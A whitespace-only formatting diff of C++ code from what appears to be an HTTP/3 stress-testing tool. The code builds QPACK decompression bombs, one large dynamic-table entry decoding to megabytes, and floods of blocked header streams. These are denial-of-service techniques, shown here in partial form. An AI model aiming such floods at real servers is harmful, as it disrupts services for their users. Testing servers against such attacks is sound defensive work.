@@ -11,10 +11,10 @@ namespace loiter::clients::h3 {
 
 namespace qpack_floods {
 
-constexpr std::uint64_t kEntryOverhead = 32;          // RFC 9204 3.2.1: an entry's size
-constexpr std::uint64_t kDefaultLimit = 64 << 10;     // where the server set no limit
-constexpr std::uint64_t kMostDecoded = 4ULL << 20;    // a bomb decodes to this at most
-constexpr std::size_t kLiteralValue = 1000;           // a literal bomb line's value
+constexpr std::uint64_t kEntryOverhead = 32;        // RFC 9204 3.2.1: an entry's size
+constexpr std::uint64_t kDefaultLimit = 64 << 10;   // where the server set no limit
+constexpr std::uint64_t kMostDecoded = 4ULL << 20;  // a bomb decodes to this at most
+constexpr std::size_t kLiteralValue = 1000;         // a literal bomb line's value
 constexpr std::string_view kBombName = "x-bomb";
 
 // Required Insert Count as the prefix carries it (RFC 9204 4.5.1.1): for the server's
@@ -62,7 +62,7 @@ void QpackBomb::open_flood() {
     // reference decodes to `capacity` bytes of field section.
     const std::int64_t encoder = open_uni(0x02);
     std::string instructions;
-    put_prefixed(instructions, 0x20, 5, capacity);  // Set Dynamic Table Capacity
+    put_prefixed(instructions, 0x20, 5, capacity);          // Set Dynamic Table Capacity
     put_prefixed(instructions, 0x40, 5, kBombName.size());  // Insert With Literal Name
     instructions += kBombName;
     const std::string value(capacity - kEntryOverhead - kBombName.size(), 'b');
@@ -122,10 +122,10 @@ bool QpackBlocked::add_flood_frames(quic::Bytes& payload, std::size_t room, std:
     if (!take_credit(headers_.size())) return false;
     const auto id = open_bidi();
     if (!id) return false;
-    quic::put_stream(payload, static_cast<std::uint64_t>(*id), 0,
-                     quic::ByteSpan(reinterpret_cast<const std::uint8_t*>(headers_.data()),
-                                    headers_.size()),
-                     /*fin=*/true);
+    quic::put_stream(
+        payload, static_cast<std::uint64_t>(*id), 0,
+        quic::ByteSpan(reinterpret_cast<const std::uint8_t*>(headers_.data()), headers_.size()),
+        /*fin=*/true);
     ++added;
   }
   return true;
